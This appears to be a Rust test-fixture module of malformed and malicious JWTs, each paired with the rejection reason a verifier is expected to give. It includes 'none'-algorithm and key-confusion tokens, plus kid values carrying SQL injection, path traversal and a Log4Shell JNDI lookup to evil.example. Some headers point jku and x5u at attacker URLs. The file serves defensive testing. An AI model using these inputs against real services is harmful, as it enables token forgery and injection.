//! Tokens that would choose their algorithm or their key.

use super::super::mint::{Mint, hmac_sha256, kid, signed_part};
use super::claims;
use super::{Algorithm, Reason};
use super::{Row, headed, headed_by, member, row};
use base64::Engine;
use base64::engine::general_purpose::{STANDARD, URL_SAFE_NO_PAD};
use serde_json::{Value, json};

pub(super) fn algorithms() -> Vec<Row> {
    let unsigned = |alg: &str, signature: &str| {
        format!(
            "{}.{signature}",
            signed_part(&json!({"alg": alg, "typ": "JWT"}).to_string(), &claims("corp").to_string())
        )
    };
    let mut rows: Vec<_> = ["none", "None", "NONE", "nOnE", " none", "none ", ""]
        .map(|alg| row(format!("alg {alg:?}"), unsigned(alg, ""), Reason::AlgorithmNone))
        .into();
    rows.push(row("alg none with a signature", unsigned("none", "AAAA"), Reason::AlgorithmNone));
    let signed_none = headed(&member("alg", "none"));
    rows.push(row("alg none with a right signature", signed_none, Reason::AlgorithmNone));
    for alg in [
        "HS384",
        "HS512",
        "RS512",
        "PS512",
        "ES384",
        "ES256K",
        "Ed448",
        "es256",
        "ES256\0",
        "RSA1_5",
        "dir",
        "ＥＳ256",
        "nоne",
    ] {
        rows.push(row(format!("alg {alg:?}"), headed(&member("alg", alg)), Reason::AlgorithmUnknown));
    }
    rows.push(row("no alg", headed(&json!({"typ": "JWT"})), Reason::AlgorithmMissing));
    rows.push(row("alg as a list", headed(&member("alg", json!(["ES256"]))), Reason::Header));
    rows.push(row("alg null", headed(&member("alg", Value::Null)), Reason::Header));
    rows
}

/// HS256 with something public as the secret, and other mixtures of keys.
pub(super) fn confusions() -> Vec<Row> {
    let mut rows = Vec::new();
    let hmac = |alias: &str, kid: Option<&str>, secret: &[u8]| {
        let mut header = json!({"alg": "HS256", "typ": "JWT"});
        if let Some(kid) = kid {
            header["kid"] = kid.into();
        }
        let signed = signed_part(&header.to_string(), &claims(alias).to_string());
        format!("{signed}.{}", URL_SAFE_NO_PAD.encode(hmac_sha256(secret, signed.as_bytes())))
    };
    let pem = Mint::ours().pem(Algorithm::Rs256);
    let public = [
        ("the PEM", pem.as_bytes().to_vec()),
        ("the PEM without its last line end", pem.trim_end().as_bytes().to_vec()),
        ("the PKCS #1 PEM", Mint::ours().pkcs1_pem().into_bytes()),
        ("the DER", STANDARD.decode(pem.lines().filter(|line| !line.starts_with('-')).collect::<String>()).unwrap()),
        ("the JWK", Mint::ours().jwk(Algorithm::Rs256).to_string().into_bytes()),
        ("nothing", Vec::new()),
    ];
    for (what, secret) in &public {
        for (alias, kid) in [("solo", None), ("corp", Some("rsa"))] {
            let what = format!("HS256 with {what} of {alias} as secret");
            rows.push(row(what, hmac(alias, kid, secret), Reason::AlgorithmNotAllowed));
        }
        let what = format!("HS256 with {what} as secret where HS256 is right");
        rows.push(row(what, hmac("hook", None, secret), Reason::Signature));
    }
    let sign = |algorithm: Algorithm, header: Value, claims: &Value| {
        Mint::ours().sign(algorithm, &header.to_string(), &claims.to_string())
    };
    let says = |alg: &str, kid: &str| json!({"alg": alg, "typ": "JWT", "kid": kid});
    let corp = claims("corp");
    rows.extend([
        row(
            "PS256 by an issuer of RS256",
            Mint::ours().token(Algorithm::Ps256, &claims("solo")),
            Reason::AlgorithmNotAllowed,
        ),
        row(
            "RS256 by an issuer of HS256",
            Mint::ours().token(Algorithm::Rs256, &claims("hook")),
            Reason::AlgorithmNotAllowed,
        ),
        row(
            "signed by RS256, said to be PS256",
            sign(Algorithm::Rs256, says("PS256", "rsa"), &corp),
            Reason::Signature,
        ),
        row(
            "signed by PS256, said to be RS256",
            sign(Algorithm::Ps256, says("RS256", "rsa"), &corp),
            Reason::Signature,
        ),
        row("ES256 with the kid of the RSA key", sign(Algorithm::Es256, says("ES256", "rsa"), &corp), Reason::KeyType),
        row("RS256 with the kid of the EC key", sign(Algorithm::Rs256, says("RS256", "p256"), &corp), Reason::KeyType),
        row("EdDSA with the kid of the EC key", sign(Algorithm::EdDsa, says("EdDSA", "p256"), &corp), Reason::KeyType),
    ]);
    rows
}

pub(super) fn kids() -> Vec<Row> {
    let mut rows =
        vec![row("no kid where there are several keys", headed(&json!({"alg": "ES256"})), Reason::KidMissing)];
    for kid in [
        "p257",
        "P256",
        "p256 ",
        "../../dev/null",
        "/dev/null",
        "' OR 1=1 --",
        "http://evil.example/key",
        "0",
        "p256\0",
        "\u{440}256",
        "p256/../p256",
        "file:///dev/null",
        "p256'; DROP TABLE keys; --",
        "${jndi:ldap://evil.example/a}",
    ] {
        rows.push(row(format!("kid {kid:?}"), headed(&member("kid", kid)), Reason::KidUnknown));
    }
    let malformed =
        [json!(7), json!(["p256"]), json!({"p256": 1}), json!(null), json!(true), json!(""), json!("k".repeat(257))];
    for kid in malformed {
        rows.push(row(format!("kid {:.20}", kid.to_string()), headed(&member("kid", kid)), Reason::KidMalformed));
    }
    rows
}

pub(super) fn headers() -> Vec<Row> {
    let theirs = Mint::theirs();
    let own_key = |mut header: Value| {
        header["kid"] = kid(Algorithm::Es256).into();
        theirs.sign(Algorithm::Es256, &header.to_string(), &claims("corp").to_string())
    };
    let embedded = json!({"alg": "ES256", "jwk": theirs.jwk(Algorithm::Es256)});
    let mut rows = vec![
        row("its own key as jwk", own_key(embedded), Reason::EmbeddedKey),
        row(
            "its own key at jku",
            own_key(json!({"alg": "ES256", "jku": "https://evil.example/jwks"})),
            Reason::EmbeddedKey,
        ),
        row(
            "its own key at x5u",
            own_key(json!({"alg": "ES256", "x5u": "https://evil.example/cert"})),
            Reason::EmbeddedKey,
        ),
        row("its own key as x5c", own_key(json!({"alg": "ES256", "x5c": ["MIIB"]})), Reason::EmbeddedKey),
        row(
            "jwk of the issuer's own key",
            headed(&member("jwk", Mint::ours().jwk(Algorithm::Es256))),
            Reason::EmbeddedKey,
        ),
        row("jku null", headed(&member("jku", Value::Null)), Reason::EmbeddedKey),
        row("unknown crit", headed(&member("crit", json!(["exp2"]))), Reason::Critical),
        row("crit of a known name", headed(&member("crit", json!(["exp"]))), Reason::Critical),
        row("empty crit", headed(&member("crit", json!([]))), Reason::Critical),
        row("unencoded payload", headed(&member("b64", false)), Reason::Critical),
        row("nested", headed(&member("cty", "JWT")), Reason::Nested),
        row("nested, spelled otherwise", headed(&member("cty", "application/jwt")), Reason::Nested),
        row("encrypted by enc", headed(&member("enc", "A256GCM")), Reason::Encrypted),
        row("compressed", headed(&member("zip", "DEF")), Reason::Encrypted),
        row("typ of a logout token", headed(&member("typ", "logout+jwt")), Reason::Type),
        row("typ of a DPoP proof", headed(&member("typ", "dpop+jwt")), Reason::Type),
        row("typ JWE", headed(&member("typ", "JWE")), Reason::Type),
        row("typ as a number", headed(&member("typ", 1)), Reason::Type),
    ];
    for text in [
        "",
        "null",
        "[]",
        "\"alg\"",
        "{",
        "{\"alg\":\"ES256\"",
        "{\"alg\":\"ES256\"}{}",
        "{'alg':'ES256'}",
        "\u{feff}{}",
    ] {
        rows.push(row(format!("header {text:?}"), headed_by(text), Reason::Header));
    }
    for text in [
        r#"{"alg":"ES256","alg":"none","kid":"p256"}"#,
        r#"{"alg":"none","alg":"ES256","kid":"p256"}"#,
        r#"{"alg":"ES256","kid":"p256","\u006bid":"rsa"}"#,
    ] {
        rows.push(row(format!("header {text}"), headed_by(text), Reason::Duplicate));
    }
    let padded = format!("{{\"alg\":\"ES256\",\"kid\":\"p256\",\"x\":\"{}\"}}", "x".repeat(3000));
    rows.push(row("huge header", headed_by(&padded), Reason::Oversize));
    let deep = format!("{{\"alg\":\"ES256\",\"x\":{}{}}}", "[".repeat(600), "]".repeat(600));
    rows.push(row("deep header", headed_by(&deep), Reason::Header));
    rows
}
